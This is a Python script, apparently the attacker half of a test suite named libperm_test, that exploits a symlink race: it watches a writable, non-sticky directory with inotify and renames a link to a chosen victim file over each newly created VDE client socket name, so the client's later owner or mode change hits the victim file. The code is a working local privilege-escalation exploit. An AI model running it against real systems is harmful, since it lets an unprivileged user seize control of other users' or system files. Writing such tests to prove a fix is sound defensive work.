#!/usr/bin/env python3
"""symrace.py: the local attacker of libperm_test, run as an unprivileged user.

    symrace.py DIR VICTIM STOPFILE

Watches DIR (a directory it may write, without the sticky bit) with
inotify and, whenever a name that a VDE client gives its data socket
appears there (".PPPPP-SSSSS", the process id and a counter that starts
at 0 on every open), renames a symbolic link to VICTIM over it at once:
a client that then changes the owner or mode of "its" socket by path
changes VICTIM's instead.  Prints "ready" once it watches, then runs
until STOPFILE exists and prints the number of names it hit.
"""
import ctypes
import ctypes.util
import os
import re
import select
import struct
import sys

IN_CREATE = 0x00000100
IN_MOVED_TO = 0x00000080
CLIENT = re.compile(rb'^\.[0-9]{5}-[0-9]{5}$')


def main():
    d, victim, stop = sys.argv[1], sys.argv[2], sys.argv[3]
    libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)
    fd = libc.inotify_init()
    if fd < 0 or libc.inotify_add_watch(fd, d.encode(), IN_CREATE) < 0:
        sys.exit('symrace: inotify: %s' % os.strerror(ctypes.get_errno()))
    tmp = os.path.join(d, 'atk.%d' % os.getpid())
    hits = 0
    print('ready', flush=True)

    def swap(name):
        """Rename a fresh link to the victim over DIR/name."""
        try:
            os.symlink(victim, tmp)
        except FileExistsError:
            pass
        try:
            os.rename(tmp, os.path.join(d, name))
            return True
        except OSError:
            return False

    while not os.path.exists(stop):
        r, _, _ = select.select([fd], [], [], 0.05)
        if not r:
            continue
        buf = os.read(fd, 65536)
        off = 0
        while off + 16 <= len(buf):
            _, mask, _, ln = struct.unpack_from('iIII', buf, off)
            name = buf[off + 16:off + 16 + ln].rstrip(b'\0')
            off += 16 + ln
            if CLIENT.match(name) and swap(name.decode()):
                hits += 1
    try:
        os.unlink(tmp)
    except OSError:
        pass
    print(hits)


if __name__ == '__main__':
    main()
